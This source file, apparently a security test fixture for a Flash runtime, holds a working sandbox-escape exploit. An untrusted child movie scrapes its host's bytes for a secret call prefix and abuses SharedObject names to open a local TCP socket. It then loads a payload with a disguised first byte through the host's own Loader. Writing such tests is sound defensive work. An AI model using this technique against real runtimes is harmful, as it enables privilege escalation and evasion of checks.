import { Sprite } from "flash.display";
import type { Event } from "flash.events";
import { SharedObject, URLLoader, URLRequest } from "flash.net";
import { ApplicationDomain, LoaderContext, Security } from "flash.system";
import type { ByteArray } from "flash.utils";

/**
 * A movie that is not of the application, and takes what it finds in the application's objects. The FlashVar `payload`
 * is the URL of a SWF whose first byte is wrong, so that nothing takes it for one as it is fetched.
 *
 * @swf frameRate=50 version=15
 */
export class Child extends Sprite {
  constructor() {
    super();
    trace("child:", Security.sandboxType);
    this.addEventListener("addedToStage", this.added);
  }

  private added(event: Event): void {
    trace("by name:", this.bindByName());
    const payload = new URLLoader();
    payload.dataFormat = "binary";
    payload.addEventListener("complete", (): void => this.loadByApplication(payload.data));
    payload.load(new URLRequest(this.loaderInfo.parameters.payload));
  }

  /** The name that synchronous calls of the application begin with is in its bytes. */
  private bindByName(): string {
    const bytes: ByteArray = this.stage.loaderInfo.bytes;
    let text = "";
    for (let i: int = 0; i < bytes.length; i++) text += String.fromCharCode(bytes[i]);
    const prefix = /flashnet-[0-9a-f]{32}-\d+/.exec(text)[0];
    const call = [prefix, "1000", encode("bind"), encode("tcp"), encode("127.0.0.1"), "0"].join("_");
    const result: any = SharedObject.getLocal(call, "/").data.result;
    return result.port > 0 ? "bound" : result.error;
  }

  /** Has a Loader of the application load something from bytes. */
  private loadByApplication(swf: ByteArray): void {
    swf[0] = 0x46;
    const ApplicationLoader: any = (this.loaderInfo.loader as any).constructor;
    const loader: any = new ApplicationLoader();
    this.addChild(loader);
    loader.loadBytes(swf, new LoaderContext(false, new ApplicationDomain(null)));
  }
}

function encode(text: string): string {
  let digits = "x";
  for (let i: int = 0; i < text.length; i++) digits += ("000" + text.charCodeAt(i).toString(16)).slice(-4);
  return digits;
}
